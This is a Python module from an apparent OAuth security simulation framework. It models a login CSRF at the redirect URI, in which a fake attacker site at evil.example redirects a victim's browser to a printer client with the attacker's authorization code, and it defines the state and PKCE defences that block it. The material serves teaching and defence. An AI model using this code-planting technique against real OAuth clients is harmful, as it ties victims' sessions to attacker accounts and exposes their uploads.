"""Cross-site request forgery at the redirect URI: Ana's browser brings an answer of the attacker's (RFC 9700 §4.7)."""

from __future__ import annotations

from collections.abc import Mapping
from functools import cache

from flask import Flask, Response

from app.actors.owner import Owner
from app.actors.places import CLIENT_ORIGIN
from app.actors.redirects import redirect, with_query
from app.attacks import own_account, parts
from app.attacks.attack import Attack, Defence, Reached
from app.attacks.parts import ATTACKER, COPIES
from app.flows.flow import Hosts
from app.flows.parts import start
from app.trace import Phase, Trace
from app.wire import Browser, Step, Tap, World, here

EVIL = "https://evil.example"
PLANT = "plant"
PLANTING = Phase(PLANT, "Follow a link")
STEPS = (
    *own_account.STEPS,
    Step("link", "owner", "browser", "act", "", PLANT, "Ana follows a link"),
    Step("lure", "browser", ATTACKER, "GET", "/cats", PLANT, "Open the attacker's page"),
    Step("planted", "browser", "client", "GET", "/cb", PLANT, "Bring the attacker's answer", after="lure"),
)
CALLBACK_STATE = Defence(
    switch="client.state",
    value="bound",
    who="client",
    sentence="The answer carries no state of Ana's session: the printer does not even ask for a token.",
    check="callback.state",
    at="planted#1.request",
    status=400,
)


@cache
def build() -> Flask:
    """The attacker's site: a page with cats, or so the link says."""
    app = Flask("evil", static_folder=None)
    app.add_url_rule("/cats", "cats", send_on, methods=["GET"])
    return app


def send_on() -> Response:
    """Send the browser on to the client, with the attacker's code. Lax cookies come along: it is a navigation."""
    code = here().actor(ATTACKER).look(COPIES, "code")
    return redirect(with_query(f"{CLIENT_ORIGIN}/cb", {"code": str(code)}))


def hosts(_: Mapping[str, str]) -> Hosts:
    """The attacker's site."""
    return {EVIL: (ATTACKER, build())}


def script(world: World) -> None:
    """Ana has asked for prints, and is distracted; meanwhile the attacker gets a code, and then sends her a link."""
    owner, browser = Owner(world), Browser(world)
    start(world, owner, browser)
    own_account.go_through(world)
    if world.actor(ATTACKER).look(COPIES, "code"):
        browser.open(f"{EVIL}/cats", owner.follows_link("link", "to see cats").cause)


def goal(trace: Trace) -> Reached:
    """Ana's session at the client holds the attacker's account."""
    sentence = "Ana's session at the printer is connected to the attacker's account."
    return parts.answered(trace, "photos", sentence, parts.shows_photos_of(own_account.ACCOUNT))


def unfitting(value: str) -> Defence:
    """The server compares the verifier of Ana's session with the challenge of the attacker's."""
    return Defence(
        switch="client.pkce",
        value=value,
        who="as",
        sentence="The code is bound to the attacker's challenge, and the printer sends the verifier of Ana's session.",
        check="token.pkce.verify",
        at="token#1.request",
        status=400,
        error="invalid_grant",
    )


ATTACK = Attack(
    id="csrf",
    title="Cross-site request forgery",
    spec=("RFC 9700 §4.7", "RFC 6749 §10.12"),
    flows=("authorization_code",),
    aim="Ana's session at the printer is connected to the attacker's account without her knowing.",
    goal=goal,
    needs={"client.type": "confidential"},
    weak={"client.state": "none", "client.pkce": "none"},
    stops=(CALLBACK_STATE, unfitting("plain"), unfitting("S256")),
    promised={"rfc9700": "RFC 9700 §4.7.1", "oauth-2.1": "OAuth 2.1 §4.1.1"},
    lanes=(parts.browser_of("Attacker's browser"), parts.thief("evil.example", "attacker's site")),
    steps=STEPS,
    phases=(own_account.PHASE, PLANTING),
    hosts=hosts,
    prepare=own_account.open_account,
    script=script,
    taps=(Tap("own_callback.request", ATTACKER, parts.keeper("query.code")),),
    victim="Ana follows a link, and the printer shows photos that are not hers. Whatever she uploads now, he has.",
    attacker="He stops his own login right before the last step, and lets Ana's browser take that step.",
    remains="A printer that can be made to send a request of the attacker's in Ana's browser, state and all.",
)
